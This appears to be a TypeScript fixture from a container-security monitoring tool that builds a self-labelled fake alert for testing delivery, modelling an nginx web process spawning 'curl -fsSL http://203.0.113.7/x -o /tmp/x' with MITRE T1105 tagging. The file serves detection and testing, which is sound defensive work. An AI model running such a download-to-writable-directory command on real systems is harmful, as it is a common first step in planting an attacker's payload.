import type { Finding } from '../model/finding.ts';

/** A finding that says of itself that it is a test; everything in it is made up. */
export function testFinding(now: Date): Finding {
  const time = now.toISOString().replace('Z', '000000Z');
  return {
    schema: 'lanner.finding/v1',
    id: `test-${now.getTime()}`,
    revision: 1,
    time,
    severity: 'high',
    score: 75,
    title: 'TEST: curl in shop/web-7d9f4 — nothing has happened, a person asked for this',
    tool: 'curl',
    category: 'download',
    why: ['This is a test of the delivery, sent by lanner sink test.'],
    indicators: [
      {
        id: 'writable_directory',
        points: 30,
        hard: false,
        evidence: '/tmp/x',
        why: 'The program lies in a directory that anyone may write.',
        mitre: ['T1105'],
      },
    ],
    mitre: ['T1105'],
    triage: [{ text: 'Nothing to do.', command: 'kubectl -n shop get pod web-7d9f4' }],
    exec: {
      id: 'test',
      time,
      sensor: 'tetragon',
      source: 'test',
      node: 'node-1',
      cluster: 'test',
      container: { id: '4f1c0a9be2d4', name: 'web', runtime: 'containerd' },
      image: {
        reference: 'registry.example/shop/web:1.4.2',
        registry: 'registry.example',
        repository: 'registry.example/shop/web',
        tag: '1.4.2',
      },
      pod: {
        namespace: 'shop',
        name: 'web-7d9f4',
        labels: { app: 'web' },
        workload: 'web',
        workload_kind: 'Deployment',
      },
      process: {
        binary: '/usr/bin/curl',
        argv: ['curl', '-fsSL', 'http://203.0.113.7/x', '-o', '/tmp/x'],
        argv_quality: 'exact',
        argv0_known: true,
        cwd: '/var/www',
        pid: 4711,
        uid: 33,
        user: 'www-data',
      },
      ancestors: [
        {
          binary: '/bin/sh',
          argv: ['sh', '-c', 'curl -fsSL http://203.0.113.7/x -o /tmp/x'],
          argv_quality: 'exact',
          argv0_known: true,
          pid: 4710,
          place: 'container',
          from: 'sensor',
        },
        {
          binary: '/usr/sbin/nginx',
          argv: ['nginx', '-g', 'daemon off;'],
          argv_quality: 'exact',
          argv0_known: true,
          pid: 1,
          place: 'container',
          from: 'sensor',
        },
      ],
    },
    test: true,
  };
}
